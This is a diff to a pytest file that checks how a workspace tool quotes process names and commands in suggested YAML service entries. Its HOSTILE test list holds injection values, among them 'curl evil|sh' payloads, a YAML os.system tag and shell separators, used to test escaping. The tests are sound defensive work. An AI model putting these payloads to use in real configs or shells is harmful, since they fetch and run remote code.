@@ -3,10 +3,12 @@
 from __future__ import annotations
 
 import os
+import shlex
 from dataclasses import replace
 from pathlib import Path
 
 import pytest
+import yaml
 
 from pytest_codex_workspace.options.services import ReadyWhen, ServiceSpec
 from pytest_codex_workspace.secrets.redaction import Redaction
@@ -19,6 +21,8 @@ from pytest_codex_workspace.services.daemons import (
 )
 from pytest_codex_workspace.workspace.channel import Channel
 from pytest_codex_workspace.workspace.handle import Daemon
+
+from ...helpers.configuration import resolve
 
 REDIS = Daemon("redis-server", "redis-server *:6379", (6379,), ())
 POSTGRES = Daemon(
@@ -106,12 +110,77 @@ def test_the_warning_names_servers_and_the_remedy() -> None:
     assert text == (
         "setup-script.sh left redis-server (port 6379), node server.js --port 3000 (port 3000) "
         "running: as in Codex, files are kept and processes are not. To have them in tests, add to "
-        ".codex-workspace.yaml: services: {redis-server: {command: redis-server, ready: {port: "
-        '6379}}, server-3000: {command: "node server.js --port 3000", ready: {port: 3000}}}; for '
-        "Codex itself, see docs/services.md"
+        '.codex-workspace.yaml: services: {redis-server: {command: "redis-server", '
+        'ready: {port: 6379}}, server-3000: {command: "node server.js --port 3000", ready: '
+        "{port: 3000}}}; for Codex itself, see docs/services.md"
     )
     assert "is not known" in daemon_warnings("resume.sh", (), (REDIS,), resume=True)[0]
     assert [] == daemon_warnings("setup-script.sh", (SLEEP,), ())
+
+
+HOSTILE = [
+    "x},a:{command:curl${IFS}evil|sh",
+    'x", ready: {port: 1}}, a: {command: "y',
+    "x # comment",
+    "x: y",
+    "- x",
+    "&a *b !!python/object:os.system",
+    "$(curl evil|sh)",
+    "x;y",
+    "yes",
+    "1e3",
+    "~",
+    "back\\slash",
+    "\U0001f600 \u2028 \x85 \ufeff \u202e \x7f",
+    "\x1b[31mred\x1b[0m\ttab",
+    "%TAG",
+]
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+@pytest.mark.parametrize("kind", ["name", "command", "socket"])
+def test_a_proposal_has_one_service_whatever_a_process_is_named(
+    name: str, kind: str, tmp_path: Path
+) -> None:
+    """
+    A process gives itself any name. The entry that is to be copied has this name and nothing else,
+    to YAML and to a shell, and the file with it can be read.
+    """
+    server = Daemon(name, name, (80,))
+    if kind == "command":
+        server = Daemon("node", f"node {name}", (80,))
+    elif kind == "socket":
+        server = Daemon("redis", "redis", (), (f"/run/{name}",))
+
+    (line,) = daemon_warnings("setup-script.sh", (), (server,))
+    entry = "services: " + line.partition(": services: ")[2].rpartition("; for Codex itself")[0]
+
+    (found,) = yaml.safe_load(entry)["services"].values()
+    command = found["command"]
+    assert ["command", "ready"] == list(found)
+    assert server.command.split() == (command if isinstance(command, list) else command.split())
+    # Text is run by a shell.
+    assert isinstance(command, list) or shlex.split(command) == command.split()
+    assert found["ready"] == ({"path": server.sockets[0]} if kind == "socket" else {"port": 80})
+    (tmp_path / ".codex-workspace.yaml").write_text(entry)
+    (read,) = resolve(tmp_path).config.services
+    assert read.ready == (
+        ReadyWhen(path=server.sockets[0]) if kind == "socket" else ReadyWhen(port=80)
+    )
+
+
+def test_servers_of_one_name_are_all_in_the_proposal() -> None:
+    """
+    A key that comes twice would be an error, or one of them would be lost.
+    """
+    servers = (REDIS, REDIS, replace(REDIS, ports=(6380,)), replace(REDIS, ports=(6381,)))
+
+    (line,) = daemon_warnings("setup-script.sh", (), servers)
+
+    entry = line.partition("services: ")[2].rpartition("; for Codex itself")[0]
+    found = yaml.safe_load(entry)
+    assert ["redis-server", "redis-server-2", "redis-server-3"] == list(found)
+    assert [6379, 6380, 6381] == [one["ready"]["port"] for one in found.values()]
 
 
 def test_a_process_that_keeps_the_output_open_is_named() -> None:
@@ -147,7 +216,7 @@ def test_a_refused_connection_to_a_server_of_setup_is_explained(printed: str) ->
     lines = explain_refusal((REDIS,), f"...\n{printed}\n")
 
     assert lines[0].startswith("redis-server (port 6379), which the scripts had started, is gone:")
-    assert "services: {redis-server: {command: redis-server, ready: {port: 6379}}}" in lines[1]
+    assert 'services: {redis-server: {command: "redis-server", ready: {port: 6379}}}' in lines[1]
 
 
 def test_the_server_is_chosen_by_port_or_socket() -> None:
